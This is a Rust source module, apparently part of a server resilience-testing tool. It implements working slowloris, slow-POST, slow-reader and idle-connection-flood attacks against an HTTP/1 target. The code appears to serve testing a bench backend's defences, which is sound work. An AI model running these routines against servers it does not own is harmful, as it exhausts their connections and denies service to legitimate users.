//! The HTTP/1 and TCP attacks: slowloris and the slow POST body (bytes
//! trickled one per `--interval`), the slow reader (a receive buffer of a
//! few KiB that is never read, so the server meets a zero window), and the
//! connection flood (idle connections, reopened as the server closes
//! them). Each function is one connection slot of the run: it reconnects
//! until the run is over.

use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::{Attack, Run};

/// The slow reader's receive buffer (the kernel doubles it and keeps a
/// floor of a few KiB).
const SLOW_READ_RCVBUF: u32 = 1024;

/// The body length a slow POST announces: under the bench backend's
/// `client_max_body_size` (1 MiB), so the node waits for the body rather
/// than answering 413 at once.
const SLOW_POST_LENGTH: u64 = 1_000_000;

/// Wait after a failed connect, so a full backlog is not hammered.
const RECONNECT_BACKOFF: Duration = Duration::from_millis(100);

/// Slowloris (a request head that never ends) or a slow POST (a complete
/// head, then a body one byte at a time): one byte every `--interval`,
/// slot `i` offset by its share of the interval so the writes spread out.
pub async fn trickle(r: &Run, i: usize) {
    let offset = r
        .opts
        .interval
        .mul_f64(i as f64 / r.opts.connections as f64);
    if !r.pause(offset).await {
        return;
    }
    while !r.over() {
        let Some(mut s) = r.connect(None).await else {
            r.pause(RECONNECT_BACKOFF).await;
            continue;
        };
        let head = match r.opts.attack {
            Attack::SlowPost => format!(
                "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/octet-stream\r\nContent-Length: {SLOW_POST_LENGTH}\r\n\r\n",
                r.opts.post_path, r.opts.host
            ),
            _ => format!("GET /?slot={i} HTTP/1.1\r\nHost: {}\r\n", r.opts.host),
        };
        if s.write_all(head.as_bytes()).await.is_err() {
            r.closed();
            continue;
        }
        r.sent(head.len());
        // Slowloris: a header line that never ends, one byte at a time.
        let filler = b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        let mut k = 0usize;
        loop {
            if tokio::select! {
                ended = server_spoke(r, &mut s) => ended,
                more = r.pause(r.opts.interval) => !more,
            } {
                break;
            }
            if r.take(1) == 0 {
                return;
            }
            let byte = match r.opts.attack {
                Attack::SlowPost => b'x',
                _ => filler[k % filler.len()],
            };
            k += 1;
            if s.write_all(&[byte]).await.is_err() {
                r.closed();
                break;
            }
            r.sent(1);
        }
    }
}

/// Waits until the server writes or closes; counts a response's status
/// line and the close. Returns true (the connection is done with).
async fn server_spoke(r: &Run, s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 4096];
    match s.read(&mut buf).await {
        Ok(n) if n > 0 => {
            if buf[..n].starts_with(b"HTTP/1.") {
                r.tally.responses.fetch_add(1, Ordering::Relaxed);
                if matches!(buf.get(9), Some(b'4' | b'5')) {
                    r.tally.error_responses.fetch_add(1, Ordering::Relaxed);
                }
            }
            // The server answered a request it never got whole (408, 400):
            // it closes after this, so does the attacker.
            r.closed();
        }
        _ => r.closed(),
    }
    true
}

/// The slow reader: asks for a large response from a socket whose receive
/// buffer is tiny and never read, then pipelines one more request every
/// `--interval` (a failed write tells that the server gave up on it).
pub async fn slow_read(r: &Run) {
    while !r.over() {
        let Some(mut s) = r.connect(Some(SLOW_READ_RCVBUF)).await else {
            r.pause(RECONNECT_BACKOFF).await;
            continue;
        };
        let req = format!(
            "GET {} HTTP/1.1\r\nHost: {}\r\n\r\n",
            r.opts.large_path, r.opts.host
        );
        loop {
            if r.take(1) == 0 {
                return;
            }
            // A write blocks once the server stops reading our requests:
            // bounded by the run's end (the connection is then dropped).
            let w = tokio::time::timeout_at(r.deadline, s.write_all(req.as_bytes())).await;
            match w {
                Ok(Ok(())) => r.sent(req.len()),
                Ok(Err(_)) => {
                    r.closed();
                    break;
                }
                Err(_) => return,
            }
            if !r.pause(r.opts.interval).await {
                return;
            }
        }
    }
}

/// Connection flood: an idle connection held until the server closes it,
/// then another; each one opened is an operation.
pub async fn hold_idle(r: &Run) {
    while !r.over() {
        if r.take(1) == 0 {
            return;
        }
        let Some(mut s) = r.connect(None).await else {
            r.pause(RECONNECT_BACKOFF).await;
            continue;
        };
        let mut buf = [0u8; 1024];
        tokio::select! {
            _ = s.read(&mut buf) => r.closed(),
            _ = tokio::time::sleep_until(r.deadline) => return,
        }
    }
}
